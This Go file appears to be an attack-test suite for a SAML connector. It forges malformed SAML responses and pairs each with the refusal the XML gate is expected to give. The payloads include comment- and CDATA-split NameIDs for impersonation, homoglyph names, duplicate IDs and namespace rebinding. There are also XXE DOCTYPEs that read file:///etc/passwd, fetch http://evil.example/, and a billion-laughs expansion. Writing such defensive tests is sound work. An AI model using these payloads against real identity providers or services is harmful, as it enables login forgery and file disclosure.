package attack

import (
	"strings"

	"github.com/beevik/etree"

	"github.com/councilid/councilid/connectors/saml2/xmlgate"
)

// texts adds names that readers have cut short, and names that are not what
// they look like.
func (f *forge) texts() {
	name := "<saml:NameID Format=\"urn:oasis:names:tc:SAML:2.0:nameid-format:persistent\">"
	cut := func(label, refusal string, e *etree.Element, old, replacement string) {
		f.add(Document{Name: label, Refusal: refusal, XML: spelt(e, name+old, name+replacement)})
	}
	cut("C1 comment in the NameID", "comment", f.byAssertion(), "alice", "ali<!---->ce")
	// Signed is the whole, read is the part in front: canonicalisation drops comments.
	longer := func() *etree.Element { return f.byAssertion(text("Subject/NameID", "admin@x.gov.uk.evil.com")) }
	cut("C2 comment before the rest of a name", "comment", longer(), "admin@x.gov.uk.evil.com", "admin@x.gov.uk<!---->.evil.com")
	cut("C4 instruction in the NameID", "processing instruction", longer(), "admin@x.gov.uk.evil.com", "admin@x.gov.uk<?x?>.evil.com")
	cut("C3 CDATA in the NameID", "", f.byAssertion(), "alice", "ali<![CDATA[ce]]>")
	cut("CDATA as the whole NameID", "", f.byAssertion(), "alice", "<![CDATA[alice]]>")
	cut("character references in the NameID", "", f.byAssertion(), "alice", "&#97;l&#x69;ce")
	cut("unknown entity in the NameID", "not well-formed XML in line 1", f.byAssertion(), "alice", "&alice;")
	cut("element in the NameID", "assertion: digest does not match", f.byAssertion(), "alice", "ali<x/>ce")
	f.refuse("element in the NameID, signed", "assertion: NameID without text", f.byAssertion(func(a *etree.Element) {
		at(a, "Subject/NameID").CreateElement("saml:x")
	}))
	f.refuse("blank NameID", "assertion: NameID without text", f.byAssertion(text("Subject/NameID", " \n")))
	cut("Latin letters swapped for Cyrillic ones", "assertion: digest does not match", f.byAssertion(), "alice", "аlice")
	cut("NUL in the NameID", "document contains a NUL byte", f.byAssertion(), "alice", "alice\x00")
	cut("reference to NUL in the NameID", "not well-formed XML in line 1", f.byAssertion(), "alice", "alice&#0;")
	cut("bytes that are no UTF-8", "not well-formed XML in line 1", f.byAssertion(), "alice", "alice\xff")
	cut("space after the NameID", "assertion: digest does not match", f.byAssertion(), "alice", "alice ")
	f.add(Document{
		Name: "comment in an attribute's value", Refusal: "comment",
		XML: spelt(f.byAssertion(), ">alice@example.org<", ">alice@example.org<!---->.evil<"),
	})
	f.add(Document{
		Name: "CDATA around an attribute's value",
		XML:  spelt(f.byAssertion(), ">alice@example.org<", "><![CDATA[alice@example.org]]><"),
	})
	f.add(Document{
		Name: "carriage returns between elements",
		XML:  []byte(strings.ReplaceAll(string(xmlgate.Bytes(f.byAssertion(spaced))), "\n", "\r\n")),
	})
}

// spaced puts a line end before every element that has one around it.
func spaced(e *etree.Element) {
	for _, c := range e.ChildElements() {
		spaced(c)
		e.InsertChildAt(c.Index(), etree.NewText("\n"))
	}
}

// syntax adds documents that parsers read differently, or read files for.
func (f *forge) syntax() {
	f.directives()
	f.prologues()
	f.names()
	f.namespaces()
}

// syntactic adds a document of this text.
func (f *forge) syntactic(name, refusal, raw string) {
	f.add(Document{Name: name, Refusal: refusal, XML: []byte(raw)})
}

// respelt adds the genuine response with one text in place of another.
func (f *forge) respelt(name, refusal, old, replacement string) {
	f.add(Document{Name: name, Refusal: refusal, XML: spelt(f.byAssertion(), old, replacement)})
}

func (f *forge) whole() string { return string(xmlgate.Bytes(f.byAssertion())) }

// directives adds documents that declare what a parser would have to expand or
// to fetch.
func (f *forge) directives() {
	f.syntactic("D1 DOCTYPE with an entity", "directive",
		"<!DOCTYPE r [<!ENTITY a \"admin\">]>"+strings.Replace(f.whole(), ">alice<", ">&a;<", 1))
	f.syntactic("D2 DOCTYPE with an external identifier", "directive", "<!DOCTYPE r SYSTEM \"file:///etc/passwd\">"+f.whole())
	f.syntactic("D3 DOCTYPE with a default for ID", "directive", "<!DOCTYPE r [<!ATTLIST r ID CDATA \"_evil\">]>"+f.whole())
	f.syntactic("DOCTYPE with a parameter entity", "directive",
		"<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/\"> %p;]>"+f.whole())
	f.syntactic("a billion laughs", "directive",
		"<!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>"+f.whole())
	f.syntactic("G3 directive with a comment", "directive", "<!x <!-- > --> >"+f.whole())
	f.syntactic("directive in the root", "directive", strings.Replace(f.whole(), "<saml:Issuer>", "<!x><saml:Issuer>", 1))
}

// prologues adds documents with more, or less, than one root element of XML 1.0
// in UTF-8.
func (f *forge) prologues() {
	f.syntactic("D4 declared to be UTF-16", "not XML 1.0 in UTF-8", "<?xml version=\"1.0\" encoding=\"utf-16\"?>"+f.whole())
	f.syntactic("declared to be UTF-7", "not XML 1.0 in UTF-8", "<?xml version=\"1.0\" encoding=\"utf-7\"?>"+f.whole())
	f.syntactic("in UTF-16", "document contains a NUL byte", "\xff\xfe"+strings.Join(strings.Split(f.whole(), ""), "\x00")+"\x00")
	f.syntactic("byte order mark", "text outside the root element", "\ufeff"+f.whole())
	f.syntactic("declared in UTF-8", "", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"+f.whole())
	f.syntactic("declared loosely", "XML declaration", "<?xml version=\"1.0\" version=\"1.0\"?>"+f.whole())
	f.syntactic("D5 XML 1.1", "not XML 1.0 in UTF-8", "<?xml version=\"1.1\"?>"+f.whole())
	f.syntactic("D6 twice", "second root element", f.whole()+f.whole())
	f.syntactic("second root", "second root element", f.whole()+"<r/>")
	f.syntactic("D7 stylesheet", "processing instruction", "<?xml-stylesheet href=\"http://evil.example/\"?>"+f.whole())
	f.syntactic("reference before the root", "text outside the root element", "&#32;"+f.whole())
	f.syntactic("CDATA after the root", "text outside the root element", f.whole()+"<![CDATA[ ]]>")
	f.syntactic("text after the root", "text outside the root element", f.whole()+"x")
	f.syntactic("comment after the root", "comment", f.whole()+"<!---->")
	f.syntactic("cut off", "document not complete", f.whole()[:len(f.whole())-len("</samlp:Response>")])
	f.syntactic("nothing at all", "document not complete", " ")
	f.syntactic("no XML", "text outside the root element", "alice")
	f.syntactic("end without a start", "end tag without a start", "</r>"+f.whole())
	f.syntactic("end of another name", "end tag of another name", strings.Replace(f.whole(), "</saml:Issuer>", "</samlp:Issuer>", 1))
}

// names adds attributes that two readers could tell apart differently, and
// names that are none.
func (f *forge) names() {
	f.respelt("N3 ID twice", "attribute repeated", "ID=\"_response\"", "ID=\"_response\" ID=\"_evil\"")
	f.respelt("attribute of one name by two prefixes", "attribute repeated", "ID=\"_response\"",
		"xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:x=\"1\" b:x=\"2\" ID=\"_response\"")
	f.respelt("id of another case", "ID repeated", "ID=\"_response\"", "ID=\"_response\" id=\"_assertion\"")
	f.respelt("xml:id", "ID repeated", "ID=\"_response\"", "ID=\"_response\" xml:id=\"_assertion\"")
	f.respelt("N1 ID of another namespace before ID", "assertion: reference to something else", "ID=\"_assertion\"",
		"xmlns:e=\"urn:e\" e:ID=\"_assertion\" ID=\"_evil\"")
	f.respelt("N2 attributes of another namespace", "", "ID=\"_response\"",
		"xmlns:e=\"urn:e\" e:InResponseTo=\"id-other\" e:Destination=\"https://evil.example/\" ID=\"_response\"")
	f.respelt("G1 attribute :x", "malformed name", "ID=\"_response\"", "ID=\"_response\" :x=\"\"")
	f.respelt("G2 element x::Root", "not well-formed XML in line 1", "<saml:Issuer>", "<saml:Issuer><x::Root/>")
	f.respelt("element xml:x", "element of a reserved namespace", "<saml:Issuer>", "<saml:Issuer><xml:x/>")
	f.respelt("element xmlns:x", "malformed name", "<saml:Issuer>", "<saml:Issuer><xmlns:x/>")
	f.respelt("white space written two ways", "white space reference in an attribute", "ID=\"_response\"", "ID=\"_response\" x=\"\t&#9;\"")
	f.respelt("attributes without white space", "no white space between attributes", " Version=", "Version=")
	f.respelt("surrogate by reference in a name", "reference to no character", ">alice<", ">alice&#xD800;<")
	f.respelt("surrogate by reference in an attribute", "reference to no character", "ID=\"_response\"", "ID=\"_response\" x=\"&#xDFFF;\"")
	f.respelt("attribute without quotes", "not well-formed XML in line 1", "ID=\"_response\"", "ID=_response")
}

// namespaces adds declarations of namespaces that are none, or that mean
// something else than before.
func (f *forge) namespaces() {
	f.respelt("V1 relative namespace", "relative namespace", "<samlp:Response", "<samlp:Response xmlns:rel=\"1\"")
	f.respelt("V2 relative namespace on the signature", "relative namespace", "<ds:Signature", "<ds:Signature xmlns:rel=\"./x\"")
	for _, space := range []string{"urn:x y", ":", "http://[/", "urn:%zz"} {
		f.respelt("namespace "+space, "namespace that is no URI", "<samlp:Response", "<samlp:Response xmlns:x=\""+space+"\"")
	}
	f.respelt("relative default namespace", "relative namespace", "<saml:Issuer>", "<saml:Issuer xmlns=\"x\">")
	f.respelt("prefix bound to nothing", "prefix bound to no namespace", "<samlp:Response", "<samlp:Response xmlns:p=\"\"")
	f.respelt("prefix that is a number", "prefix that is no name", "<samlp:Response", "<samlp:Response xmlns:1=\"urn:x\"")
	f.respelt("prefix not declared", "prefix not declared", "<saml:Issuer>", "<saml:Issuer><x:y/>")
	f.respelt("attribute's prefix not declared", "prefix not declared", "ID=\"_response\"", "ID=\"_response\" x:y=\"\"")
	f.respelt("prefix xml bound anew", "reserved namespace", "<samlp:Response", "<samlp:Response xmlns:xml=\"urn:x\"")
	f.respelt("prefix xmlns bound", "reserved namespace", "<samlp:Response", "<samlp:Response xmlns:xmlns=\"urn:x\"")
	f.respelt("prefix bound to xmlns", "reserved namespace", "<samlp:Response", "<samlp:Response xmlns:x=\"http://www.w3.org/2000/xmlns/\"")
	f.respelt("prefix saml bound anew", "assertion: digest does not match", "<saml:Subject>", "<saml:Subject xmlns:saml=\"urn:x\">")
	f.respelt("prefix ds bound anew", "assertion: signature of an unexpected shape", "<ds:SignedInfo>", "<ds:SignedInfo xmlns:ds=\"urn:x\">")
}
